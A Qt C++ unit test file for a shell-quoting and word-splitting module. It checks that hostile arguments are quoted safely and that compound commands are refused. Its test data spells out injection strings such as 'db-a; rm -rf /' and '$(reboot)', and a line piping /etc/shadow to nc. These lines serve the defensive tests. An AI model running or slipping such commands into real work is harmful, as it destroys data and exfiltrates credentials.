// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/shellquote.h"

#include <QProcess>
#include <QtTest/QTest>

using namespace mailha;

class TestShellQuote : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void quotesOnlyWhatNeedsIt_data()
    {
        QTest::addColumn<QString>("argument");
        QTest::addColumn<QString>("quoted");
        QTest::newRow("plain") << "postqueue" << "postqueue";
        QTest::newRow("path and flags") << "/usr/sbin/crm_mon" << "/usr/sbin/crm_mon";
        QTest::newRow("empty") << "" << "''";
        QTest::newRow("space") << "a b" << "'a b'";
        QTest::newRow("single quote") << "it's" << "'it'\\''s'";
        QTest::newRow("command substitution") << "$(reboot)" << "'$(reboot)'";
        QTest::newRow("semicolon") << "db-a; rm -rf /" << "'db-a; rm -rf /'";
        QTest::newRow("newline") << "a\nb" << "'a\nb'";
        QTest::newRow("tilde") << "~root" << "'~root'";
    }
    void quotesOnlyWhatNeedsIt()
    {
        QFETCH(QString, argument);
        QFETCH(QString, quoted);
        QCOMPARE(shellQuote(argument), quoted);
    }

    // The real proof: a POSIX shell given the joined text sees exactly the
    // original arguments, whatever they contain.
    void shellSeesTheOriginalArguments_data()
    {
        QTest::addColumn<QStringList>("argv");
        QTest::newRow("hostile names") << QStringList{"printf", "%s\\n", "db-a; touch /tmp/pwned", "$(id)", "`id`",
                                                       "'\"'", "a\nb", "\u202Eevil", "*", "<b>bold</b>", "--", "-n"};
        QTest::newRow("empty args") << QStringList{"printf", "[%s]\\n", "", " ", "''"};
    }
    void shellSeesTheOriginalArguments()
    {
        QFETCH(QStringList, argv);
        const ShellCommand command = shellJoin(argv);
        QVERIFY(command.ok());
        QProcess sh;
        sh.start(QStringLiteral("/bin/sh"), {QStringLiteral("-c"), command.text});
        QVERIFY(sh.waitForFinished(10000));
        QCOMPARE(sh.exitCode(), 0);
        QString expected;
        const QString format = argv.at(1) == QLatin1String("%s\\n") ? QStringLiteral("%1\n") : QStringLiteral("[%1]\n");
        for (qsizetype i = 2; i < argv.size(); ++i)
            expected += format.arg(argv.at(i));
        QCOMPARE(QString::fromUtf8(sh.readAllStandardOutput()), expected);
    }

    void splittingInvertsJoining_data() { shellSeesTheOriginalArguments_data(); }
    void splittingInvertsJoining()
    {
        QFETCH(QStringList, argv);
        const ShellWords words = splitShellWords(shellJoin(argv).text);
        QVERIFY2(words.ok(), qPrintable(words.error));
        QCOMPARE(words.words, argv);
    }

    void splittingRefusesCompoundCommands_data()
    {
        QTest::addColumn<QString>("line");
        QTest::newRow("sequence") << "postqueue -j; reboot";
        QTest::newRow("pipe") << "cat /etc/shadow | nc host 1";
        QTest::newRow("substitution") << "echo $(id)";
        QTest::newRow("backquote") << "echo `id`";
        QTest::newRow("variable") << "echo $HOME";
        QTest::newRow("expansion in double quotes") << "echo \"$(id)\"";
        QTest::newRow("redirect") << "echo x > /etc/passwd";
        QTest::newRow("background") << "sleep 1 &";
        QTest::newRow("glob") << "rm *";
        QTest::newRow("newline") << "true\nreboot";
        QTest::newRow("unterminated") << "echo 'abc";
        QTest::newRow("empty") << "   ";
    }
    void splittingRefusesCompoundCommands()
    {
        QFETCH(QString, line);
        const ShellWords words = splitShellWords(line);
        QVERIFY(!words.ok());
        QVERIFY(words.words.isEmpty());
    }

    void splittingHandlesDoubleQuotesAndEscapes()
    {
        QCOMPARE(splitShellWords(u"a \"b c\" d\\ e 'f\"g'").words,
                 (QStringList{"a", "b c", "d e", "f\"g"}));
    }

    void refusesWhatCannotBeQuoted()
    {
        QVERIFY(!shellJoin({}).ok());
        QVERIFY(!shellJoin({QString()}).ok());
        const ShellCommand nul = shellJoin({QStringLiteral("echo"), QStringLiteral("a") + QChar(u'\0') + QStringLiteral("b")});
        QVERIFY(!nul.ok());
        QVERIFY(nul.error.contains(QLatin1String("NUL")));
        QVERIFY(nul.text.isEmpty());
    }
};

QTEST_GUILESS_MAIN(TestShellQuote)
#include "tst_shellquote.moc"
